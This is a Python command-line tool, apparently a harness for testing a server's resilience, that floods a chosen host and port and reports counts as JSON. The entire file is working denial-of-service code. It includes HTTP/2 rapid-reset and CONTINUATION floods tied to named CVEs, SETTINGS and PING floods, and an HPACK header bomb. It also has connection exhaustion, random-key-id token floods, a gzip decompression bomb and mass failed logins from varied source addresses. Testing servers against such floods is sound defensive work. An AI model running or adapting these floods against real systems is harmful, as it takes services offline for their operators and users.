"""Floods of one kind against one address, for so many seconds.

Usage: attack.py KIND HOST PORT SECONDS [WORDS...]

Frames are made with the libraries behind PyPI's h2. Prints one line of JSON: how much was
sent, over how many connections, and how many of these the server cut.
"""

import json
import random
import re
import resource
import selectors
import socket
import sys
import time
from urllib.parse import urlencode

import h2.connection
from hpack import Encoder
from hyperframe import frame

BATCH = 100
# Requests a second of a flood whose harm is not its rate: past what the machine can serve,
# any request harms.
PACE = 5000
PATIENCE = 50.0
# How long the answers to logins may take, all together.
LOGINS_PATIENCE = 120.0


class Count:
    def __init__(self):
        self.sent = self.connections = self.cut = self.open = 0
        self.answers = {}

    def line(self):
        return json.dumps(vars(self))


def raise_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def preface():
    connection = h2.connection.H2Connection()
    connection.initiate_connection()
    return connection.data_to_send()


def head(encoder, method, path, extra=()):
    fields = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)]
    return encoder.encode(fields + list(extra))


def headers(stream, block, *flags):
    made = frame.HeadersFrame(stream, data=block)
    for flag in flags:
        made.flags.add(flag)
    return made.serialize()


def rapid_reset(encoder):
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    stream = 1
    while True:
        batch = b""
        for _ in range(BATCH):
            batch += headers(stream, head(encoder, "GET", "/open/x"), "END_HEADERS", "END_STREAM")
            batch += frame.RstStreamFrame(stream, error_code=8).serialize()
            stream += 2
        yield batch, BATCH


def continuation(encoder):
    """A head that never ends (CVE-2024-27316 and its kin)."""
    yield headers(1, head(encoder, "GET", "/open/x")), 1
    number = 0
    while True:
        batch = b""
        for _ in range(BATCH):
            number += 1
            batch += frame.ContinuationFrame(1, data=encoder.encode([(f"x-{number}", "y" * 50)])).serialize()
        yield batch, BATCH


def settings(encoder):
    while True:
        yield frame.SettingsFrame(0, settings={4: 65535}).serialize() * BATCH, BATCH


def ping(encoder):
    while True:
        yield frame.PingFrame(0, opaque_data=b"12345678").serialize() * BATCH, BATCH


def empty_data(encoder):
    """DATA without data that does not end its stream."""
    yield headers(1, head(encoder, "POST", "/open/x"), "END_HEADERS"), 1
    while True:
        yield frame.DataFrame(1, data=b"").serialize() * BATCH, BATCH


def header_bomb(encoder):
    """One long field in the table of HPACK, then references of one byte to it."""
    stream = 1
    block = encoder.encode([("x-bomb", "b" * 3900)])
    while True:
        start = head(encoder, "GET", "/bomb/x") + (block if stream == 1 else b"")
        bomb = start + b"\xbe" * 15000
        opening = frame.HeadersFrame(stream, data=bomb[:8000])
        opening.flags.add("END_STREAM")
        rest = frame.ContinuationFrame(stream, data=bomb[8000:])
        rest.flags.add("END_HEADERS")
        yield opening.serialize() + rest.serialize(), 1
        stream += 2


FRAMES = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "settings": settings,
    "ping": ping,
    "empty-data": empty_data,
    "header-bomb": header_bomb,
}


def flood_frames(kind, address, end, count):
    # A bomb is refused one by one; for anything else the connection is cut, whatever holds that up.
    cuts = kind != "header-bomb"
    patience = PATIENCE if cuts else 0.5
    last = end + PATIENCE if cuts else end

    def goes_on():
        return time.monotonic() < (end if count.cut else last)

    while goes_on():
        connection = socket.create_connection(address, PATIENCE)
        connection.settimeout(patience)
        count.connections += 1
        try:
            connection.sendall(preface())
            for batch, frames in FRAMES[kind](Encoder()):
                connection.sendall(batch)
                count.sent += frames
                if not goes_on():
                    break
                # What the server says is read, so that it is not the client that blocks.
                connection.setblocking(False)
                try:
                    while True:
                        if not connection.recv(65536):
                            raise ConnectionError
                except BlockingIOError:
                    pass
                connection.settimeout(patience)
        except TimeoutError:
            # The server takes no more on this connection.
            pass
        except OSError:
            count.cut += 1
        finally:
            connection.close()


def connections(address, end, count, most):
    """Connections that say nothing. Those past `most` are closed, whatever holds that up."""
    raise_limit()
    opened = []
    last = end + PATIENCE

    def goes_on():
        # Until some are past it at least.
        return time.monotonic() < (end if count.connections > int(most) else last)

    while goes_on() and count.connections < 6000:
        try:
            opened.append(socket.create_connection(address, PATIENCE))
            count.connections += 1
        except OSError:
            count.cut += 1
    time.sleep(max(0.0, end - time.monotonic()))
    last = time.monotonic() + PATIENCE
    while True:
        opened = [one for one in opened if is_open(one, count)]
        if len(opened) <= int(most) or time.monotonic() > last:
            break
        time.sleep(0.1)
    count.open = len(opened)
    count.sent = count.connections


def is_open(connection, count):
    connection.setblocking(False)
    try:
        closed = connection.recv(1) == b""
    except BlockingIOError:
        return True
    except OSError:
        closed = True
    count.cut += closed
    return not closed


def key_ids(address, end, count):
    """Tokens, each with a kid that nobody knows."""
    import base64

    encode = lambda data: base64.urlsafe_b64encode(data).rstrip(b"=")
    claims = encode(b'{"iss":"https://id.example.org","aud":"floods","sub":"eve","exp":4102444800}')
    start = time.monotonic()
    while time.monotonic() < end:
        connection = socket.create_connection(address, PATIENCE)
        connection.settimeout(PATIENCE)
        count.connections += 1
        batch = b""
        for _ in range(BATCH):
            kid = "%032x" % random.getrandbits(128)
            token = encode(b'{"alg":"ES256","kid":"' + kid.encode() + b'"}') + b"." + claims + b"." + encode(bytes(64))
            batch += b"GET /tokens/x HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token + b"\r\n\r\n"
        connection.sendall(batch)
        got = b""
        try:
            while got.count(b"HTTP/1.1 ") < BATCH:
                more = connection.recv(65536)
                if not more:
                    break
                got += more
        except TimeoutError:
            pass
        for part in got.split(b"HTTP/1.1 ")[1:]:
            status = part[:3].decode()
            count.answers[status] = count.answers.get(status, 0) + 1
        count.sent += BATCH
        connection.close()
        time.sleep(max(0.0, start + count.sent / PACE - time.monotonic()))


def compressed(address, end, count):
    """A body of some kilobytes that would be a gigabyte."""
    import zlib

    start = time.monotonic()
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    bomb = b"".join(packer.compress(zeros) for _ in range(1024)) + packer.flush()
    request = (
        b"POST /open/x HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n" % len(bomb)
    ) + bomb
    # Making it takes its time, which is not the attack's.
    end += time.monotonic() - start
    while time.monotonic() < end:
        connection = socket.create_connection(address, PATIENCE)
        connection.settimeout(PATIENCE)
        count.connections += 1
        connection.sendall(request)
        status = connection.recv(65536)[9:12].decode()
        count.answers[status] = count.answers.get(status, 0) + 1
        count.sent += 1
        connection.close()


def read_head(connection, got=b""):
    while b"\r\n\r\n" not in got:
        more = connection.recv(65536)
        if not more:
            raise ConnectionError
        got += more
    head, body = got.split(b"\r\n\r\n", 1)
    return head, body


def read_answer(connection):
    head, body = read_head(connection)
    length = int(re.search(rb"(?i)content-length: *(\d+)", head + b"\r\ncontent-length: 0").group(1))
    while len(body) < length:
        body += connection.recv(65536)
    return head, body


def begin_login(connection, path):
    """A browser at the page of a login: its cookies and the form's hidden fields."""
    cookies = {}
    for _ in range(5):
        told = "; ".join(f"{name}={value}" for name, value in cookies.items())
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {told}\r\n\r\n".encode())
        head, body = read_answer(connection)
        for name, value in re.findall(r"(?im)^set-cookie: *([^=]+)=([^;\r]*)", head.decode()):
            cookies[name] = value
        to = re.search(r"(?im)^location: *(\S+)", head.decode())
        if not to:
            break
        path = to.group(1)
    text = body.decode()
    hidden = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', text.split("</form>")[0]))
    action = re.search(r'<form method="post" action="([^"]+)"', text)
    if not action:
        raise SystemExit(f"no form of a login: {head} {text}")
    return action.group(1), cookies, hidden


def logins(address, _end, count, number, path):
    """So many logins at once, each of another name from another address with a wrong password."""
    raise_limit()
    number = int(number)
    requests = []
    connection = None
    for which in range(number):
        # Fewer than one connection may carry.
        if which % 100 == 0:
            connection = socket.create_connection(address, PATIENCE)
        action, cookies, hidden = begin_login(connection, path)
        body = urlencode({**hidden, "username": f"person-{which}", "password": "not the password"})
        told = "; ".join(f"{name}={value}" for name, value in cookies.items())
        head = (
            f"POST {action} HTTP/1.1\r\nHost: localhost\r\nCookie: {told}\r\nConnection: close\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        requests.append((head + body).encode())
    waiting = selectors.DefaultSelector()
    for which, request in enumerate(requests):
        own = f"127.{1 + which // 62500}.{which // 250 % 250}.{1 + which % 250}"
        one = socket.create_connection(address, PATIENCE, (own, 0))
        one.sendall(request)
        one.setblocking(False)
        waiting.register(one, selectors.EVENT_READ)
        count.connections += 1
        count.sent += 1
    last = time.monotonic() + LOGINS_PATIENCE
    while waiting.get_map() and time.monotonic() < last:
        for key, _ in waiting.select(1.0):
            try:
                got = key.fileobj.recv(65536)
            except OSError:
                got = b""
            status = got[9:12].decode() if got.startswith(b"HTTP/1.1 ") else "none"
            count.answers[status] = count.answers.get(status, 0) + 1
            waiting.unregister(key.fileobj)
            key.fileobj.close()
    count.open = len(waiting.get_map())


def main():
    kind, host, port, seconds, *words = sys.argv[1:]
    address, end, count = (host, int(port)), time.monotonic() + float(seconds), Count()
    if kind in FRAMES:
        flood_frames(kind, address, end, count)
    else:
        others = {"connections": connections, "key-ids": key_ids, "compressed": compressed, "logins": logins}
        others[kind](address, end, count, *words)
    print(count.line())


main()
